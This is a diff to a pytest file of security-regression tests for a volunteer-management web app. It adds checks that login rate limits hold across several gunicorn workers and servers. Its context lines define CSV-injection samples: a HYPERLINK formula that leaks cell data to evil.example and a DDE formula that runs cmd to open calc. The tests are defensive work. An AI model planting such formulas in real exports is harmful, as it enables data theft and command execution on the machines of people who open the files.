@@ -1,14 +1,21 @@
 """What an attacker tried on the landed app (issue #16), one test (or more) per finding."""
 import csv
 import io
+import json
 import socket
+import urllib.error
+import urllib.request
+from contextlib import contextmanager
 
 import pytest
 import sqlalchemy as sa
 
+from benchmarks.harness import Gunicorn
+from tests.conftest import sqlite_copy
 from tests.merchants.test_merchants import shop  # noqa: F401  (fixture)
 from tests.test_pages import login
 from tests.vouchers.test_vouchers import haircut, owner_of  # noqa: F401  (fixtures)
+from volunteer_hub.config import ConfigError, from_env
 from volunteer_hub.core.errors import ValidationFailed
 from volunteer_hub.extensions import db
 from volunteer_hub.merchants import services as merchants
@@ -19,6 +26,7 @@ from volunteer_hub.vouchers import services as vouchers
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
+PRODUCTION_KEY = "9f2c" * 16  # 32 random-looking bytes in hex
 
 
 def cells(response) -> list[list[str]]:
@@ -111,3 +119,65 @@ def test_an_on_premises_gateway_is_allowed_by_an_explicit_setting(app, world):
     assert notifications.configure_webhook(world.centre_admin, world.centre, url="http://10.0.0.5:8080/sms")
     with pytest.raises(ValidationFailed):
         notifications.configure_webhook(world.centre_admin, world.centre, url="http://10.0.0.6:8080/sms")
+
+
+# 3. Limits that hold across processes and servers ---------------------------------------------------
+
+def _free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
+
+
+@contextmanager
+def production_servers(db_url: str, count: int, workers: int, **env):
+    """``count`` gunicorn servers with production settings on one database, stopped afterwards."""
+    settings = {"VOLUNTEER_HUB_ENV": "production", "SECRET_KEY": PRODUCTION_KEY, "PUBLIC_URL": "https://hub.example.cn",
+                **env}
+    servers = []
+    try:
+        for _ in range(count):
+            servers.append(Gunicorn(db_url, _free_port(), workers=workers, threads=1, env=settings))
+        yield servers
+    finally:
+        for server in servers:
+            server.stop()
+
+
+def _post_status(url: str, body: dict, headers: dict | None = None) -> int:
+    request = urllib.request.Request(url, data=json.dumps(body).encode(), method="POST",
+                                     headers={"Content-Type": "application/json", **(headers or {})})
+    try:
+        with urllib.request.urlopen(request, timeout=30) as response:
+            return response.status
+    except urllib.error.HTTPError as exc:
+        return exc.code
+
+
+def _wrong_passwords(servers, attempts: int) -> list[int]:
+    return [_post_status(servers[i % len(servers)].url + "/api/v1/auth/token",
+                         {"phone": "13700000009", "password": "wrong-password"}) for i in range(attempts)]
+
+
+@pytest.fixture
+def migrated_sqlite(sqlite_template, tmp_path) -> str:
+    return sqlite_copy(sqlite_template, tmp_path / "served.sqlite3")
+
+
+def test_a_limit_holds_across_two_gunicorn_workers(redis_url, migrated_sqlite):
+    with production_servers(migrated_sqlite, 1, 2, RATELIMIT_STORAGE_URI=redis_url,
+                            RATELIMIT_LOGIN="5 per hour") as servers:
+        statuses = _wrong_passwords(servers, 12)
+    assert statuses == [401] * 5 + [429] * 7
+
+
+def test_a_limit_holds_across_two_app_servers(redis_url, migrated_sqlite):
+    with production_servers(migrated_sqlite, 2, 1, RATELIMIT_STORAGE_URI=redis_url,
+                            RATELIMIT_LOGIN="5 per hour") as servers:
+        statuses = _wrong_passwords(servers, 10)
+    assert statuses == [401] * 5 + [429] * 5
+
+
+def test_production_needs_a_shared_limit_store():
+    with pytest.raises(ConfigError, match="RATELIMIT_STORAGE_URI"):
+        from_env("/tmp", {"ENV_NAME": "production", "SECRET_KEY": PRODUCTION_KEY, "PUBLIC_URL": "https://h.cn"})
